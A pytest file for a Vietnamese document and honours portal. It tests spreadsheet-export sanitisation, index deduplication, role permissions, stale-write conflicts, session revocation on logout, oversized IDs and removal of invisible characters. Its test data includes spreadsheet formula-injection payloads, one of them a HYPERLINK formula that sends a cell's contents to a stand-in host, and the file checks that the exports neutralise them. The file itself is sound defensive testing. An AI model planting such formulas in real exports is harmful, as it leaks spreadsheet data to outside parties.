"""Rows 1, 6, 7, 8, 9, 11, 12, 13, 14 of the fault table: what a visitor or a webmaster can do
in one process, with the real app, database and index."""
import csv
import io

import openpyxl
import pytest
from sqlalchemy.orm import Session as OrmSession

from portal.domain.documents.models import Document
from portal.domain.editorial import publishing
from portal.domain.honors import requests as honor_requests
from portal.domain.honors.models import Award, HonorRequest
from portal.domain.kernel.actor import Actor
from portal.errors import InvalidTransition
from portal.extensions import db
from portal.search import service
from portal.web import cache
from tests.conftest import CONTENT, assert_unique_index_keys, load
from tests.honors_helpers import row, write_decision
from tests.web.admin.conftest import create, publish
from tests.web.admin.test_uploads import CAMPAIGN, HEADER, upload

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Xem\")", "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "\r=2+2"]


def _hostile_roll(app, tmp_path):
    rows = [row(i + 1, name=f"Nguyễn Văn {chr(65 + i)}", unit=text, achievement=text)
            for i, text in enumerate(HOSTILE)]
    load(app, write_decision(tmp_path / "qd", rows))


def test_row1_csv_export_neutralizes_formulas(seeded, client, tmp_path):
    _hostile_roll(seeded, tmp_path)
    text = client.get("/vinh-danh/xuat.csv").get_data(as_text=True)
    cells = [cell for line in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in line]
    leading = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert leading == [], leading
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"Xem\")" in cells and "'@SUM(A1)" in cells


def test_row1_xlsx_export_has_no_formula(seeded, client, tmp_path):
    _hostile_roll(seeded, tmp_path)
    book = openpyxl.load_workbook(io.BytesIO(client.get("/vinh-danh/xuat.xlsx").data))
    cells = [cell for line in book.active.iter_rows() for cell in line]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells if isinstance(c.value, str)]
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"Xem\")" in values and "'+1+2" in values
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in values)


def _public_award_total(client, query):
    return client.get("/api/v1/search", query_string={"q": query, "per_page": 100}).get_json()["total"]


def test_row6_load_rebuild_load_indexes_each_award_once(app, client):
    load(app, CONTENT)
    with app.app_context():
        service.rebuild()
    load(app, CONTENT.parent / "demo")
    with app.app_context():
        awards = db.session.scalar(db.select(db.func.count(Award.id)))
    assert awards > 0
    assert_unique_index_keys(app.config["SEARCH_INDEX_DIR"])
    # every award once: searching a kind of entry counts each exactly once
    with app.app_context():
        searcher = service.current_index().searcher()
        award_entries = sum(1 for fields in searcher.all_stored_fields() if fields["key"].startswith("award:"))
    assert award_entries == awards


def test_row6_confirming_a_list_on_a_published_decision_indexes_once(seeded, as_role):
    reviewer = as_role("reviewer")
    doc_id = create(reviewer, symbol="45/QĐ-VKS", type="quyet-dinh", subject="Khen thưởng sơ kết năm 2022",
                    award_form="bang-khen-chu-tich-ubnd-tinh", level="tinh", campaign=CAMPAIGN,
                    review_round="so-ket-2022", reason="đã có thành tích trong giải phóng mặt bằng")
    assert publish(reviewer, doc_id).status_code == 302
    rows = HEADER + "".join(f"{n},Cá nhân,Hoàng Văn Tuần{n},,,,,,Vận động,,,\n" for n in range(1, 10))
    html = upload(reviewer, doc_id, rows.encode(), "danh-sach.csv", "danh-sach").get_data(as_text=True)
    token = html.split("/danh-sach/")[1].split('"')[0]
    assert reviewer.post(f"/quan-tri/van-ban/{doc_id}/danh-sach/{token}", {"action": "confirm"}).status_code == 302
    assert _public_award_total(reviewer.client, "hoang van tuan1") >= 1
    assert_unique_index_keys(seeded.config["SEARCH_INDEX_DIR"])


def test_row7_an_editor_cannot_restore_what_a_reviewer_removed(seeded, as_role, client):
    reviewer, editor = as_role("reviewer"), as_role("editor")
    with seeded.app_context():
        plan_id = db.session.scalar(db.select(Document.id).where(Document.symbol == "174/KH-UBND"))
    assert reviewer.post(f"/quan-tri/van-ban/{plan_id}/xoa", {"confirm": "1"}).status_code == 302
    refused = editor.post(f"/quan-tri/thung-rac/{plan_id}/khoi-phuc")
    assert refused.status_code == 403 and "người duyệt" in refused.get_data(as_text=True)
    assert client.get("/van-ban/174-kh-ubnd-2022").status_code == 404
    urls = [r["url"] for r in client.get("/api/v1/search?q=174/KH-UBND").get_json()["results"]]
    assert not any(url.endswith("/174-kh-ubnd-2022") for url in urls)
    assert reviewer.post(f"/quan-tri/thung-rac/{plan_id}/khoi-phuc").status_code == 302
    assert client.get("/van-ban/174-kh-ubnd-2022").status_code == 200


def test_row7_an_editor_still_restores_a_draft(app, as_role):
    editor = as_role("editor")
    doc_id = create(editor)
    editor.post(f"/quan-tri/van-ban/{doc_id}/xoa", {"confirm": "1"})
    assert editor.post(f"/quan-tri/thung-rac/{doc_id}/khoi-phuc").status_code == 302


def test_row8_a_transition_on_a_stale_read_is_a_409_with_the_current_state(seeded):
    with seeded.app_context():
        plan = db.session.scalar(db.select(Document).where(Document.symbol == "174/KH-UBND"))
        with OrmSession(db.engine) as other:  # a second reviewer retracts it first
            theirs = other.get(Document, plan.id)
            theirs.status = "retracted"
            other.commit()
        with pytest.raises(InvalidTransition) as refused:
            publishing.transition(plan, "retract", Actor("duyet@vks.test", "reviewer"))
        assert refused.value.status == 409 and "Đã gỡ" in refused.value.message
        assert db.session.get(Document, plan.id).status == "retracted"


def test_row8_the_page_says_409_not_500(seeded, as_role, monkeypatch):
    reviewer = as_role("reviewer")
    with seeded.app_context():
        plan_id = db.session.scalar(db.select(Document.id).where(Document.symbol == "174/KH-UBND"))
    original = publishing.workflow.record

    def meanwhile(*args, **kwargs):  # another reviewer commits between our read and our write
        with OrmSession(db.engine) as other:
            other.get(Document, plan_id).status = "retracted"
            other.commit()
        return original(*args, **kwargs)

    monkeypatch.setattr(publishing.workflow, "record", meanwhile)
    response = reviewer.post(f"/quan-tri/van-ban/{plan_id}/chuyen/retract")
    assert response.status_code == 409 and "vừa được người khác thay đổi" in response.get_data(as_text=True)


def _open_request(app):
    load(app, CONTENT.parent / "demo")
    with app.app_context():
        award_id = db.session.scalar(db.select(Award.id).order_by(Award.id))
        item = HonorRequest(award_id=award_id, kind="remove", message="Đề nghị gỡ tên tôi.", contact="a@b.vn")
        db.session.add(item)
        db.session.commit()
        return item.id, award_id


def test_row9_a_request_closed_twice_keeps_the_first_decision(seeded):
    request_id, award_id = _open_request(seeded)
    with seeded.app_context():
        mine = honor_requests.get_request(request_id)  # read while still open
        with OrmSession(db.engine) as other:  # the other reviewer closes it first: removed
            theirs = other.get(HonorRequest, request_id)
            theirs.status, theirs.note, theirs.closed_by = "closed", "Đã gỡ.", "khac@vks.test"
            other.get(Award, award_id).publication = "removed"
            other.commit()
        with pytest.raises(InvalidTransition) as refused:
            honor_requests.close_request(mine, "public", "Giữ nguyên.", Actor("duyet@vks.test", "reviewer"))
        assert refused.value.status == 409 and "khac@vks.test" in refused.value.message
        db.session.expire_all()
        assert db.session.get(Award, award_id).publication == "removed"


def test_row11_exports_are_not_kept_in_the_page_cache(seeded, client, tmp_path):
    _hostile_roll(seeded, tmp_path)
    cache.clear()
    for n in range(60):
        assert client.get(f"/vinh-danh/xuat.csv?n={n}").status_code == 200
    assert cache.cached_bytes() == 0


def test_row11_the_page_cache_is_bounded_in_bytes(seeded, client):
    seeded.config["PAGE_CACHE_BYTES"] = 200_000
    cache.clear()
    for n in range(40):
        for _twice in range(2):  # a page with a query is kept from its second request
            assert client.get(f"/van-ban?trang=1&x={n}").status_code == 200
    assert 0 < cache.cached_bytes() <= 200_000


def test_row12_logout_ends_the_session_on_the_server(app, as_role):
    editor = as_role("editor")
    assert editor.get("/quan-tri/").status_code == 200
    stolen = editor.client.get_cookie("session").value
    assert editor.post("/quan-tri/dang-xuat").status_code == 302
    replay = app.test_client()
    replay.set_cookie("session", stolen)
    response = replay.get("/quan-tri/")
    assert response.status_code == 302 and "/quan-tri/dang-nhap" in response.headers["Location"]


@pytest.mark.parametrize("number", ["9223372036854775808", "2147483648", "99999999999999999999999"])
def test_row13_ids_past_the_database_range_are_404(seeded, as_role, client, number):
    assert client.get(f"/vinh-danh/khen-thuong/{number}").status_code == 404
    assert as_role("reviewer").get(f"/quan-tri/van-ban/{number}").status_code == 404


def test_row13_a_huge_version_or_revision_number_is_not_a_500(app, as_role):
    editor = as_role("editor")
    doc_id = create(editor)
    compare = editor.get(f"/quan-tri/van-ban/{doc_id}/phien-ban/so-sanh?a=1&b=9223372036854775808")
    assert compare.status_code == 400


def test_row14_invisible_and_bidi_characters_are_removed_at_input(seeded, client, tmp_path):
    rows = [row(1, name="Nguyễn Văn \u202eBình", unit="Phòng\u200d Tài nguyên"),
            row(2, name="Lê\u200b Thị Hà", unit="Ban\u2066 quản lý\u2069")]
    load(seeded, write_decision(tmp_path / "qd", rows))
    with seeded.app_context():
        names = {a.name: a.unit for a in db.session.scalars(db.select(Award))}
    assert names == {"Nguyễn Văn Bình": "Phòng Tài nguyên", "Lê Thị Hà": "Ban quản lý"}
    page = client.get("/vinh-danh", query_string={"don-vi": "Phòng\u200d Tài nguyên"}).get_data(as_text=True)
    assert "Nguyễn Văn Bình" in page
    typed = client.get("/vinh-danh", query_string={"ten": "Lê\u200b Thị"}).get_data(as_text=True)
    assert "Lê Thị Hà" in typed
    export = client.get("/vinh-danh/xuat.csv").get_data(as_text=True)
    assert not any(ch in export for ch in "\u202e\u200d\u200b\u2066\u2069")
